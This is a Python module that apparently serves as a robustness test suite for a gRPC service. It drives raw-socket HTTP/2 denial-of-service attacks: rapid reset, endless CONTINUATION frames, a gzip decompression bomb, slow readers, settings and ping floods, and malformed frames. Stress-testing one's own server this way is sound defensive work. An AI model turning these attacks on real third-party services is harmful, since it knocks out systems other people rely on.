"""Clients that break HTTP/2's rules, or keep them and take what they can. Raw sockets: no library would send this."""

import os
import random
import socket
import struct
import time
import zlib

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
EXTRACT = "/radio.v1.FeatureService/Extract"
MIB = 2**20


def message(payload, compressed=False):
    """gRPC's framing of one message."""
    return struct.pack(">BI", compressed, len(payload)) + payload


class Wire:
    """One raw connection. What the peer says is thrown away; once it has hung up, sending fails with OSError."""

    def __init__(self, address, preface=True, settings=None):
        host, port = address.rsplit(":", 1)
        # Of another address than the good client: by it the server tells clients apart.
        self.socket = socket.create_connection((host, int(port)), timeout=5, source_address=("127.0.0.2", 0))
        self._encoder = hpack.Encoder()
        self._stream = -1
        if preface:
            self.send_bytes(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())

    def send_bytes(self, data):
        self.socket.sendall(data)

    def send(self, *frames):
        self.send_bytes(b"".join(frame.serialize() for frame in frames))

    def headers(self, extra=(), flags=("END_HEADERS",)):
        """(frame that opens a call, its stream)."""
        self._stream += 2
        fields = [(":method", "POST"), (":scheme", "http"), (":path", EXTRACT), (":authority", "localhost")]
        fields += [("content-type", "application/grpc"), ("te", "trailers"), *extra]
        return HeadersFrame(self._stream, self._encoder.encode(fields), flags=list(flags)), self._stream

    def drain(self, seconds=0.0, until=b""):
        """What arrives within `seconds`, or until it holds `until`; None once the peer has hung up."""
        end = time.monotonic() + seconds
        seen = b""
        while True:
            self.socket.settimeout(max(0.001, end - time.monotonic()))
            try:
                data = self.socket.recv(65536)
            except TimeoutError:
                return seen
            except OSError:
                return None
            finally:
                self.socket.settimeout(5)
            if not data:
                return None
            seen += data
            if time.monotonic() >= end or (until and until in seen):
                return seen

    def close(self):
        self.socket.close()


class Attack:
    """What an attack works with: where, until when, how much of everything (1 is a load suite's share), a request."""

    def __init__(self, address, seconds, scale, request):
        self.address, self.scale, self.request = address, scale, request
        self.end = time.monotonic() + seconds
        self.random = random.Random(1)
        self._wires = []

    def share(self, number):
        return max(2, int(number * self.scale))

    def open(self, **options):
        wire = Wire(self.address, **options)
        self._wires.append(wire)
        return wire

    def over(self):
        return time.monotonic() >= self.end

    def wait(self):
        time.sleep(max(0, self.end - time.monotonic()))

    def hold(self, wires):
        """Reads what comes, without hurry, until the end."""
        while not self.over():
            for wire in wires:
                wire.drain()
            time.sleep(0.05)

    def close(self):
        for wire in self._wires:
            wire.close()


def silent_sockets(attack):
    for _ in range(attack.share(500)):
        attack.open(preface=False)
    attack.wait()


def headers_only_streams(attack):
    wires = [attack.open() for _ in range(attack.share(10))]
    for wire in wires:
        for _ in range(attack.share(100)):
            wire.send(wire.headers()[0])
    attack.hold(wires)


def half_closed_streams(attack):
    """Streams that end before their message does, without any, or after more than one."""
    body = message(attack.request)
    while not attack.over():
        wire = attack.open()
        for data in (b"", body[:3], body[: len(body) // 2], body + body, message(b"")[:-1]):
            frame, stream = wire.headers()
            wire.send(frame, DataFrame(stream, data[:16000], flags=["END_STREAM"]))
        wire.drain(0.05)
        wire.close()


def rapid_reset(attack):
    wire = attack.open()
    for _ in range(attack.share(5000)):
        frame, stream = wire.headers()
        wire.send(frame, RstStreamFrame(stream, 8))
        if stream % 200 == 1:
            wire.drain()
            time.sleep(0.02)
        if attack.over():
            break


def settings_and_ping_floods(attack):
    while not attack.over():
        wire = attack.open()
        try:
            for _ in range(attack.share(50)):
                wire.send(*[SettingsFrame(0, settings={4: 65535 + k}) for k in range(50)])
                wire.send(*[PingFrame(0, bytes(8)) for _ in range(50)])
                wire.drain()
        except OSError:
            pass
        wire.close()
        time.sleep(0.05)


def oversize_metadata(attack):
    while not attack.over():
        wire = attack.open()
        frame, stream = wire.headers([("x-long", "a" * 3000)] * 4, flags=())
        rest = frame.data[16000:]
        frame.data = frame.data[:16000]
        wire.send(frame, ContinuationFrame(stream, rest, flags=["END_HEADERS"]))
        wire.drain(0.05)
        wire.close()


def endless_continuation(attack):
    wire = attack.open()
    frame, stream = wire.headers(flags=())
    wire.send(frame)
    try:
        for k in range(attack.share(64)):
            block = hpack.Encoder().encode([(f"x-{k}-{i}", "a" * 100) for i in range(100)])
            wire.send(ContinuationFrame(stream, block[:16000]))
            time.sleep(0.02)
    except OSError:
        return
    attack.wait()


def compressed_bomb(attack):
    """512 MiB of zeros as half a MiB of gzip."""
    packer = zlib.compressobj(9, wbits=31)
    size = attack.share(512)
    bomb = message(b"".join(packer.compress(bytes(MIB)) for _ in range(size)) + packer.flush(), compressed=True)
    while not attack.over():
        wire = attack.open()
        frame, stream = wire.headers([("grpc-encoding", "gzip")])
        try:
            wire.send(frame)
            for at in range(0, len(bomb), 16000):
                wire.send(DataFrame(stream, bomb[at : at + 16000]))
                wire.drain()
        except OSError:
            pass
        wire.drain(0.2)
        wire.close()


def slow_readers(attack):
    """Asks, over and over, and never makes room for an answer."""
    wires = [attack.open(settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}) for _ in range(attack.share(10))]
    body = message(attack.request)
    assert len(body) < 16384, "more than a frame"
    for _ in range(attack.share(20)):
        for wire in wires:
            frame, stream = wire.headers()
            wire.send(frame, DataFrame(stream, body, flags=["END_STREAM"]))
            wire.drain()
        # What they hold is the attack, not the rush.
        time.sleep(0.1)
    attack.hold(wires)


def oversize_uploads(attack):
    """Messages that say 64 MiB, as much of each as the server takes."""
    wires = [attack.open() for _ in range(attack.share(32))]
    streams = {}
    for wire in wires:
        frame, stream = wire.headers()
        wire.send(frame, DataFrame(stream, struct.pack(">BI", 0, 64 * MIB)))
        wire.send(WindowUpdateFrame(0, window_increment=2**30))
        streams[wire] = stream
    data = {wire: DataFrame(stream, bytes(16000)).serialize() for wire, stream in streams.items()}
    sent = 0
    while not attack.over() and streams:
        for wire in list(streams):
            wire.socket.setblocking(False)
            try:
                # A frame that is half sent is garbage to the server: it ends that connection, and rightly.
                sent += wire.socket.send(data[wire])
                wire.drain()
            except BlockingIOError:
                pass
            except OSError:
                del streams[wire]
        time.sleep(0.001)


def garbage(attack):
    while not attack.over():
        for first in (b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", attack.random.randbytes(200), PREFACE + b"\xff" * 100):
            wire = attack.open(preface=False)
            try:
                wire.send_bytes(first)
                wire.drain(0.02)
            except OSError:
                pass
            wire.close()


def tls_garbage(attack):
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
    while not attack.over():
        for rest in (b"", os.urandom(507), os.urandom(3)):
            wire = attack.open(preface=False)
            try:
                wire.send_bytes(hello + rest)
                wire.drain(0.02)
            except OSError:
                pass
            wire.close()


def _broken_frames(wire):
    """One frame each that RFC 9113 forbids or that is seldom seen, for an open stream."""
    _, stream = opened = wire.headers()
    block = hpack.Encoder().encode([(":method", "POST"), (":path", EXTRACT), ("te", "x")])

    def raw_headers(stream, block, flags=5):
        return struct.pack(">BHBBI", 0, len(block), 1, flags, stream) + block

    yield opened[0].serialize() + DataFrame(stream, message(b"\xff" * 50), flags=["END_STREAM"]).serialize()
    yield b"\0\0\1\0\0\0\0\0\0x"  # DATA on stream 0
    yield DataFrame(99, b"on a stream that nobody opened").serialize()
    yield WindowUpdateFrame(0, window_increment=1).serialize()[:-4] + bytes(4)
    yield WindowUpdateFrame(0, window_increment=2**31 - 1).serialize() * 2
    yield PriorityFrame(1, depends_on=1).serialize()
    yield RstStreamFrame(0x7FFFFFF0 | 1, 8).serialize()
    yield b"\xff\xff\xff\0\0\0\0\0\1"  # a frame of 16 MiB
    yield b"\0\0\5\4\0\0\0\0\0" + bytes(5)  # SETTINGS of 5 bytes
    yield b"\0\0\1\4\1\0\0\0\0x"  # an acknowledgement with a body
    yield b"\0\0\7\6\0\0\0\0\0" + bytes(7)  # PING of 7 bytes
    yield b"\0\0\4\5\4\0\0\0\1" + bytes(4)  # PUSH_PROMISE from a client
    yield b"\0\0\0\x42\0\0\0\0\0"  # an unknown type: to be ignored
    yield b"\0\0\1\0\x08\0\0\0\1\xff"  # padding longer than the frame
    yield raw_headers(2, block, 4)  # an even stream
    yield raw_headers(7, block)  # `te: x`, and no authority
    yield raw_headers(9, b"\xff\xff\xff")  # HPACK of an index that is not there
    yield raw_headers(11, b"\x3f\xff\xff\xff\xff\x7f")  # HPACK: a table of 32 GiB
    yield ContinuationFrame(1, b"").serialize()
    yield SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 2**32 - 1}).serialize()
    yield SettingsFrame(0, settings={SettingsFrame.MAX_FRAME_SIZE: 1}).serialize()
    for name, value in (("x-bin", "!!!"), ("grpc-timeout", "99999999999H"), ("grpc-timeout", "-1S"), ("te", "x")):
        frame, stream = wire.headers([(name, value)])
        yield frame.serialize() + DataFrame(stream, message(b""), flags=["END_STREAM"]).serialize()


def broken_frames(attack):
    while not attack.over():
        count = len(list(_broken_frames(attack.open())))
        for k in range(count):
            wire = attack.open()
            for i, data in enumerate(_broken_frames(wire)):
                if i == k:
                    try:
                        wire.send_bytes(data)
                        wire.drain(0.01)
                    except OSError:
                        pass
            wire.close()
            if attack.over():
                return


ATTACKS = {
    function.__name__.replace("_", " "): function
    for function in (
        silent_sockets,
        headers_only_streams,
        half_closed_streams,
        rapid_reset,
        settings_and_ping_floods,
        oversize_metadata,
        endless_continuation,
        compressed_bomb,
        slow_readers,
        oversize_uploads,
        garbage,
        tls_garbage,
        broken_frames,
    )
}


def run(name, address, seconds, scale, request):
    """Runs an attack, then closes its connections. A server that hangs up on it is in its right."""
    attack = Attack(address, seconds, scale, request)
    try:
        ATTACKS[name](attack)
    except OSError:
        attack.wait()
    finally:
        attack.close()
